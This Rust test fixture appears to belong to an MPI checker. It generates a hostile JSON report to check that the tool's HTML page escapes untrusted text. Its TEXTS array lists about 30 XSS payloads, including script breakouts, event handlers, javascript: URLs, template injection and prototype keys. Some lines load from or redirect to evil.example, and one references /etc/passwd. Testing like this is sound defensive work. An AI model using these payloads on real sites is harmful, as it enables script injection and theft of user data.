//! A report that somebody wrote to do harm: texts that would be more than text in HTML, JavaScript, JSON or a URI stand
//! wherever a text can stand, numbers are as large as they get, and ranks are no ranks.
//!
//! Each text that would run sets `window.__pwned`. Left out: what is not in the form of a report; the command refuses it
//! before a page is made (`tests/browser/pages.rs` tries the one that browsers would take).

use std::fs;
use std::path::Path;

use serde_json::{Map, Value, json};

/// Would run as they stand, if the page took them for more than text.
const TEXTS: [&str; 30] = [
    "</script><script>window.__pwned='script'</script>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    "<svg onload=window.__pwned='svg'><animate onbegin=window.__pwned='animate' attributeName=x>",
    "<!--<script>window.__pwned='comment'</script>-->",
    "<!--<script>",
    "]]><script>window.__pwned='cdata'</script>",
    "javascript:window.__pwned='url'//",
    "\" onmouseover=\"window.__pwned='double'\" autofocus onfocus=\"window.__pwned='focus'\" x=\"",
    "' onclick='window.__pwned=1' x='",
    "${window.__pwned='template'}",
    "`;window.__pwned='backtick';`",
    "\\\"};window.__pwned='escape';//",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "</style><style>*{display:none}</style><script>window.__pwned='style'</script>",
    "</title><base href=\"https://evil.example/\"><script src=\"x.js\"></script>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<iframe srcdoc=\"<script>parent.__pwned='frame'</script>\"></iframe>",
    "<a href=\"javascript:window.__pwned='link'\" id=detail>click</a>",
    "<form action=\"https://evil.example/\"><input name=attributes><input name=children></form>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\"><object data=\"data:text/html,x\"></object>",
    "url(https://evil.example/x.png) expression(window.__pwned=1)",
    "&lt;script&gt;window.__pwned='entity'&lt;/script&gt; &#60;img src=x onerror=window.__pwned=1&#62; &amp;",
    "a\u{202e}c.txt\u{2066}b\u{2069}\u{200f}\u{61c} reversed",
    "zero\u{0}byte\u{7}\u{8}\u{1b}[31mred\u{9b}\u{7f}\u{85}end",
    "line\nfeed\r\nreturn\u{2028}separator\u{2029}paragraph\ttab\u{b}\u{c}",
    "\u{fffe}\u{ffff}\u{feff}\u{200b}\u{200d}z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306} \u{1f600}",
    "__proto__",
    "constructor",
    "data:text/html,<script>window.__pwned='data'</script>",
    "file:///etc/passwd#finding-1",
];

/// Ranks that are none, or too many to write them out.
const RANKS: [&str; 8] =
    ["0-4294967295", "9-3", "-1", "1e9", "0-99999999999999999999", "1,,2,-,<b>", "", "0,0,0,0-0"];

pub fn report(folder: &Path) -> Result<Value, String> {
    let source = folder.join("</script><img src=x onerror=window.__pwned=1>".replace('/', "\u{2215}"));
    let mut lines = Vec::new();
    for text in TEXTS {
        lines.extend(text.replace(['\n', '\r'], " ").into_bytes());
        lines.extend(b" \xff\xfe not UTF-8\n");
    }
    lines.extend("one long line ".repeat(40_000).into_bytes());
    lines.push(b'\n');
    fs::write(&source, lines).map_err(|error| format!("{}: {error}", source.display()))?;

    let long = "long".repeat(5_000);
    let mut findings: Vec<Value> =
        TEXTS.iter().enumerate().map(|(at, text)| finding(text, &source, at)).collect();
    findings.push(finding(&long, &source, TEXTS.len()));
    let texts = |count: usize| TEXTS.iter().take(count).copied().collect::<Vec<_>>();
    let keyed = |value: Value| -> Map<String, Value> {
        TEXTS.iter().map(|text| ((*text).to_owned(), value.clone())).collect()
    };
    let rules: Vec<Value> = TEXTS.iter().map(|text| rule(text)).collect();
    let gone: Vec<Value> = TEXTS
        .iter()
        .map(|text| json!({ "check": text, "severity": "error", "message": text, "fingerprint": text, "place": frame(text, text, 1) }))
        .collect();
    Ok(json!({
        "schema_version": 1, "tool": { "name": TEXTS[0], "version": TEXTS[1] },
        "run": {
            "id": TEXTS[0], "command": TEXTS.join(" "), "started": TEXTS[1], "seconds": 1e308, "exit_status": -1,
            "complete": false, "ranks": u32::MAX, "ranks_reported": u32::MAX,
            "mpi": { "abi": TEXTS[0], "library": TEXTS[1], "standard": TEXTS[2] },
            "unfinished": [{
                "ranks": RANKS[0], "count": u32::MAX, "call": TEXTS[1],
                "operations": [{
                    "rank": i32::MIN, "call": TEXTS[1], "target": i32::MAX, "target_world_rank": null, "first": TEXTS[0],
                    "bytes": u64::MAX, "checked": false, "stack": [frame(TEXTS[0], TEXTS[1], 1)],
                }],
            }],
            "checker_failed": TEXTS[0],
        },
        "summary": { "error": findings.len(), "warning": 0, "note": 0, "suppressed": 0 },
        "findings": findings,
        "coverage": { "calls": keyed(json!(u64::MAX)), "unchecked": texts(30), "limits": texts(30) },
        "windows": [window(&source, 0, u64::MAX), window(&source, u64::MAX - 8, u64::MAX), window(&source, 4096, 0)],
        "keyvals": [{
            "ranks": RANKS[0], "kind": TEXTS[0], "created": [frame(TEXTS[0], TEXTS[1], 1)], "freed": [],
            "set": u64::MAX, "copied": u64::MAX, "deleted": 0,
        }],
        "suppressions": rules,
        "baseline": { "source": TEXTS[0], "new": 1, "unchanged": 1, "gone": gone },
        "configuration": { "severity": keyed(json!("note")), "off": keyed(json!(3)) },
    }))
}

fn finding(text: &str, source: &Path, number: usize) -> Value {
    let mut finding = json!({
        "check": text, "verdict": "violation", "severity": "error", "message": text, "help": text, "call": text,
        "language": text, "ranks": RANKS[number % RANKS.len()], "count": u64::MAX,
        "stack": [frame(text, &source.display().to_string(), number as u64 + 1), frame(text, text, u64::from(u32::MAX))],
        "related": [
            { "role": text, "message": text, "rank": i32::MIN, "stack": [frame(text, &source.display().to_string(), 31)] },
            { "role": "created", "message": text, "rank": null, "stack": [] },
        ],
        "details": {
            text: text, "first_byte": "0x555500001000", "bytes": i64::MAX, "target_world_rank": 0, "missing_byte": text,
            "__proto__": text, "toString": 1,
        },
        "standard": { "version": text, "section": text }, "library": text,
        "fingerprint": if number == 0 { text.to_owned() } else { format!("{number:032x}") },
    });
    if number % 7 == 3 {
        finding["suppressed"] = json!({ "reason": text, "source": text, "line": u64::MAX });
    } else if number % 7 == 4 {
        finding["baseline"] = json!("new");
    }
    // Ids that the page knows, with everything else hostile.
    if number % 5 == 2 {
        finding["check"] = json!("rma-unattached");
        finding["call"] = json!("MPI_Get");
    }
    finding
}

fn frame(function: &str, file: &str, line: u64) -> Value {
    json!({ "function": function, "file": file, "line": line, "module": function, "offset": u64::MAX })
}

fn rule(text: &str) -> Value {
    json!({
        "source": text, "line": 1, "rule": { "check": text, "function": text, "file": text, "library": text, "call": text },
        "reason": text, "until": text, "state": "unused", "findings": 0,
    })
}

fn window(source: &Path, base: u64, size: u64) -> Value {
    let place = frame(TEXTS[0], &source.display().to_string(), 1);
    let region = json!({
        "base": base, "size": size, "attached_at": u64::MAX, "detached_at": 0, "attached": [place.clone()], "detached": [place.clone()],
    });
    json!({ "rank": 0, "flavor": TEXTS[0], "created": [place], "freed": [], "regions": [region.clone(), region] })
}
